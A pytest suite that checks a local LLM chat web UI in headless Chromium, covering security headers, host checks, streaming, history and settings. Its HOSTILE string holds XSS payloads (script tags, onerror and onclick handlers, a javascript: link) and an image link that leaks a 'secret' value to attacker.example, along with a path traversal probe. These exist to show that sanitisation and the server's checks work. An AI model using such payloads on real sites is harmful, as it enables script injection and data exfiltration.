"""The web chat page in a real browser: Debian's chromium + chromium-driver, driven by selenium,
against `r1 serve` with the tiny random model. Screenshots go to build/ui-screenshots/.

The random model never writes </think> by itself, so the tests set a thinking budget of 4 tokens:
the server then closes the thinking and the rest of the answer is content.
"""
import json
import re
import shutil
import time
from pathlib import Path

import pytest

from conftest import ROOT, Server

CHROMIUM = shutil.which("chromium")
DRIVER = shutil.which("chromedriver")
SHOTS = ROOT / "build" / "ui-screenshots"
SETTINGS = {"temperature": 0.6, "top_p": 0.95, "max_tokens": 24, "repetition_penalty": 1.1,
            "seed": 1, "max_reasoning_tokens": 4, "system_prompt": ""}


def require_browser():
    if not CHROMIUM or not DRIVER:
        pytest.fail("chromium and chromium-driver are needed for the web UI tests: `make deps` "
                    "installs them (apt-get install chromium chromium-driver)")


@pytest.fixture(scope="module")
def ui_server(tiny_model, tmp_path_factory):
    s = Server(tiny_model, ["--parallel", "4", "--ctx-size", "512"], tmp_path_factory.mktemp("ui"))
    yield s
    s.stop()


def make_driver(width=1280, height=860):
    require_browser()
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service
    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for arg in ["--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
                f"--window-size={width},{height}", "--lang=en-US"]:
        options.add_argument(arg)
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    return webdriver.Chrome(service=Service(DRIVER), options=options)


@pytest.fixture
def browser():
    d = make_driver()
    yield d
    d.quit()


def wait(predicate, timeout=30, what="condition"):
    deadline = time.time() + timeout
    last = None
    while time.time() < deadline:
        try:
            last = predicate()
            if last:
                return last
        except Exception as e:  # element not there yet
            last = e
        time.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what} (last: {last!r})")


def open_page(d, server, settings=SETTINGS, path="/"):
    d.get(f"http://127.0.0.1:{server.port}/ui/favicon.svg")  # same origin, to seed storage
    d.execute_script("localStorage.clear(); sessionStorage.clear();"
                     "localStorage.setItem('r1.settings', arguments[0]);", json.dumps(settings))
    d.get(f"http://127.0.0.1:{server.port}{path}")
    wait(lambda: d.execute_script("return document.querySelector('#messages') !== null"),
         what="the page")


def by(d, css):
    return d.find_element("css selector", css)


def send(d, text):
    box = by(d, "#input")
    box.clear()
    box.send_keys(text)
    from selenium.webdriver.common.keys import Keys
    box.send_keys(Keys.ENTER)


def answered(d, count):
    """Waits until `count` assistant messages exist and the last one finished."""
    return wait(lambda: len(d.find_elements("css selector", ".message.assistant")) == count
                and by(d, "#stop").get_attribute("hidden") is not None
                and d.find_elements("css selector", ".message.assistant")[-1], what="the answer")


def severe_console_errors(d):
    return [e for e in d.get_log("browser") if e["level"] == "SEVERE"
            and "favicon" not in e["message"]]


def test_page_headers(ui_server):
    status, headers, body = ui_server.request("GET", "/")
    assert status == 200
    assert headers["content-type"] == "text/html; charset=utf-8"
    csp = headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp
    assert "frame-ancestors 'none'" in csp and "img-src 'self' data:" in csp
    assert headers["x-frame-options"] == "DENY"
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"
    # No inline script or handler: every <script> has a src, no on...= attribute.
    assert not re.search(rb"<script(?![^>]*\bsrc=)", body)
    assert not re.search(rb"\son[a-z]+\s*=", body)
    status, h, _ = ui_server.request("GET", "/vendor/katex/fonts/KaTeX_Main-Regular.woff2")
    assert status == 200 and h["content-type"] == "font/woff2"
    status, h, _ = ui_server.request("GET", "/ui/app.js")
    assert status == 200 and h["content-type"] == "text/javascript; charset=utf-8"
    status, _, _ = ui_server.request("GET", "/ui/app.js", headers={"If-None-Match": h["etag"]})
    assert status == 304
    status, _, _ = ui_server.request("GET", "/ui/../CMakeLists.txt")
    assert status in (400, 404)


@pytest.mark.parametrize("path", ["/", "/v1/models", "/health", "/ui/app.js"])
def test_foreign_host_is_refused(ui_server, path):
    status, _, body = ui_server.request("GET", path, headers={"Host": f"rebind.example:{ui_server.port}"})
    assert status == 403
    assert b"--allowed-host rebind.example" in body
    status, _, _ = ui_server.request("GET", path, headers={"Host": f"localhost:{ui_server.port}"})
    assert status == 200


def test_send_streams_thinking_and_answer(ui_server, browser):
    d = browser
    open_page(d, ui_server, {**SETTINGS, "max_tokens": 200})
    send(d, "What is 2+2?")
    # While streaming: the thinking panel fills and the Stop button shows.
    wait(lambda: by(d, ".message.assistant .thinking .plain").get_attribute("textContent").strip(),
         what="thinking text")
    answer = answered(d, 1)
    assert by(d, ".message.user .plain").text == "What is 2+2?"
    thinking = answer.find_element("css selector", ".thinking")
    assert thinking.get_attribute("open") is None, "the thinking panel folds once the answer starts"
    assert thinking.find_element("css selector", "summary").text.startswith("Thought for ")
    assert answer.find_element("css selector", ".answer").text.strip() != ""
    stats = answer.find_element("css selector", ".stats").text
    assert "tokens" in stats and "tok/s" in stats and "TTFT" in stats
    assert not severe_console_errors(d), severe_console_errors(d)


def test_stop_cancels_the_answer(ui_server, browser):
    d = browser
    open_page(d, ui_server, {**SETTINGS, "max_tokens": 400})
    send(d, "Tell me a long story")
    wait(lambda: by(d, ".message.assistant .answer").text.strip(), what="answer text")
    by(d, "#stop").click()
    answer = answered(d, 1)
    assert "stopped" in answer.find_element("css selector", ".stats").text
    assert "state-stopped" in answer.get_attribute("class")


def test_regenerate_and_edit(ui_server, browser):
    d = browser
    open_page(d, ui_server, {**SETTINGS, "seed": ""})
    send(d, "first question")
    answered(d, 1)
    by(d, ".message.assistant .regenerate").click()
    wait(lambda: by(d, "#stop").get_attribute("hidden") is None or True)
    answered(d, 1)
    assert len(d.find_elements("css selector", ".message")) == 2
    send(d, "second question")
    answered(d, 2)
    # Edit the first question: everything after it is replaced.
    d.find_elements("css selector", ".message.user .edit")[0].click()
    box = by(d, ".edit-box")
    box.clear()
    box.send_keys("edited question")
    by(d, ".edit-send").click()
    answered(d, 1)
    users = [e.text for e in d.find_elements("css selector", ".message.user .plain")]
    assert users == ["edited question"]


def test_settings_persist_across_reload(ui_server, browser):
    d = browser
    open_page(d, ui_server)
    by(d, "#open-settings").click()
    field = by(d, "#settings-form input[name=temperature]")
    assert field.get_attribute("value") == "0.6"
    field.clear()
    field.send_keys("5")
    by(d, "#settings-save").click()
    assert "Temperature" in by(d, "#settings-error").text  # out of range: refused, named
    field.clear()
    field.send_keys("0.3")
    by(d, "#settings-save").click()
    d.refresh()
    by(d, "#open-settings").click()
    assert by(d, "#settings-form input[name=temperature]").get_attribute("value") == "0.3"
    assert "without a system prompt" in by(d, "#settings .hint").text
    by(d, "#settings-reset").click()
    assert by(d, "#settings-form input[name=top_p]").get_attribute("value") == "0.95"
    assert by(d, "#settings-form input[name=max_tokens]").get_attribute("value") == "2048"
    assert by(d, "#settings-form input[name=repetition_penalty]").get_attribute("value") == "1.1"


HOSTILE = ('Hi <script>window.__pwned = 1</script> <img src=x onerror="window.__pwned = 2">\n\n'
           '[click](javascript:window.__pwned=3) ![leak](http://attacker.example/p.png?q=secret)\n\n'
           '<a href="https://example.com" onclick="window.__pwned=4">ok link</a>\n\n'
           'Math: \\( x^2 \\) and $$\\boxed{55}$$\n\n```python\nprint("hi")\n```\n')


def check_inert(d, root_css):
    root = by(d, root_css)
    html = root.get_attribute("innerHTML")
    assert "<script" not in html and "onerror" not in html and "onclick" not in html
    assert "javascript:" not in html and "attacker.example" not in html
    for a in root.find_elements("css selector", "a[href]"):
        assert a.get_attribute("href").startswith("https://")
        assert "noopener" in a.get_attribute("rel") and a.get_attribute("target") == "_blank"
    for a in root.find_elements("css selector", "a"):
        if a.text == "click":
            a.click()
    assert d.execute_script("return window.__pwned === undefined")
    assert root.find_elements("css selector", ".katex"), "math is typeset"
    assert "55" in root.text
    assert root.find_elements("css selector", "pre .copy"), "code blocks get a copy button"
    assert root.find_elements("css selector", "pre code .hljs-built_in, pre code .hljs-string")


def test_hostile_markdown_renders_inert(ui_server, browser):
    d = browser
    open_page(d, ui_server)
    d.execute_async_script(
        "const done = arguments[1];"
        "import('/ui/render.js').then(m => { const el = m.renderMarkdown(arguments[0]);"
        "el.id = 'probe'; document.body.append(el); done(); });", HOSTILE)
    check_inert(d, "#probe")


def create_conversation(server, title, messages):
    status, c = server.json("POST", "/api/conversations", {"title": title})
    assert status in (200, 201), f"history API missing or broken ({status}): {c}"
    for m in messages:
        status, body = server.json("POST", f"/api/conversations/{c['id']}/messages", m)
        assert status in (200, 201), body
    return c["id"]


def test_stored_hostile_answer_renders_inert(ui_server, browser):
    d = browser
    cid = create_conversation(ui_server, "hostile", [
        {"role": "user", "content": "<img src=x onerror=\"window.__pwned=9\">", "state": "complete"},
        {"role": "assistant", "content": HOSTILE, "reasoning_content": "<script>x</script>",
         "state": "complete"}])
    open_page(d, ui_server, path=f"/#c={cid}")
    wait(lambda: by(d, ".message.assistant .answer").text, what="the stored answer")
    check_inert(d, ".message.assistant .answer")
    assert by(d, ".message.user .plain").text == '<img src=x onerror="window.__pwned=9">'


def test_history_reload_rename_export_delete(ui_server, browser):
    d = browser
    open_page(d, ui_server)
    send(d, "Remember this conversation please")
    answered(d, 1)
    wait(lambda: "#c=" in d.current_url, what="the conversation id in the URL")
    wait(lambda: any("Remember this conversation" in e.text
                     for e in d.find_elements("css selector", ".conversation")), what="sidebar")
    d.refresh()
    wait(lambda: by(d, ".message.user .plain").text == "Remember this conversation please",
         what="the conversation restored after reload")
    assert d.find_elements("css selector", ".message.assistant .answer")
    # Rename (prompt dialog), then export as JSON through the API the buttons use.
    by(d, "#rename").click()
    alert = d.switch_to.alert
    alert.send_keys("Renamed chat")
    alert.accept()
    wait(lambda: by(d, "#title").text == "Renamed chat", what="the new title")
    wait(lambda: any(e.text == "Renamed chat" for e in d.find_elements("css selector", ".conversation")))
    cid = d.current_url.split("#c=")[1]
    exported = d.execute_async_script(
        "const done = arguments[1]; import('/ui/api.js').then(m => m.history.exportText(arguments[0], 'markdown')).then(done, e => done('ERR ' + e));",
        cid)
    assert "Remember this conversation please" in exported
    # Search finds it, delete removes it.
    by(d, "#search").send_keys("Renamed")
    wait(lambda: [e.text for e in d.find_elements("css selector", ".conversation")] == ["Renamed chat"])
    by(d, "#delete").click()
    d.switch_to.alert.accept()
    wait(lambda: by(d, "#title").text == "New chat")
    status, _ = ui_server.json("GET", f"/api/conversations/{cid}")
    assert status == 404


def test_api_key_is_asked_once(tiny_model, tmp_path):
    s = Server(tiny_model, ["--ctx-size", "512", "--api-key", "sk-ui-test"], tmp_path)
    d = make_driver()
    try:
        open_page(d, s)
        # The page's first call (the conversation list under /api) meets the 401 and asks.
        wait(lambda: by(d, "#key-dialog").get_attribute("open") is not None, what="the key dialog")
        by(d, "#key-input").send_keys("sk-ui-test")
        by(d, "#key-ok").click()
        wait(lambda: by(d, "#key-dialog").get_attribute("open") is None, what="the dialog to close")
        send(d, "hello with a key")
        answer = answered(d, 1)
        assert "state-complete" in answer.get_attribute("class"), by(d, "#banner-text").text
        assert d.execute_script("return sessionStorage.getItem('r1.apiKey')") == "sk-ui-test"
        assert by(d, "#key-dialog").get_attribute("open") is None, "asked twice"
        send(d, "second message, no dialog")
        answered(d, 2)
        assert by(d, "#key-dialog").get_attribute("open") is None
    finally:
        d.quit()
        s.stop()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width,height,name", [(1280, 860, "desktop"), (390, 844, "phone")])
def test_screenshots(ui_server, scheme, width, height, name):
    d = make_driver(width, height)
    try:
        d.execute_cdp_cmd("Emulation.setEmulatedMedia",
                          {"features": [{"name": "prefers-color-scheme", "value": scheme}]})
        open_page(d, ui_server, {**SETTINGS, "max_tokens": 60})
        send(d, "Explain $$\\boxed{55}$$ and show `code`")
        answered(d, 1)
        bg = d.execute_script("return getComputedStyle(document.body).backgroundColor")
        assert (bg == "rgb(255, 255, 255)") == (scheme == "light"), bg
        SHOTS.mkdir(parents=True, exist_ok=True)
        path = SHOTS / f"{name}-{scheme}.png"
        d.save_screenshot(str(path))
        assert path.stat().st_size > 5000
    finally:
        d.quit()
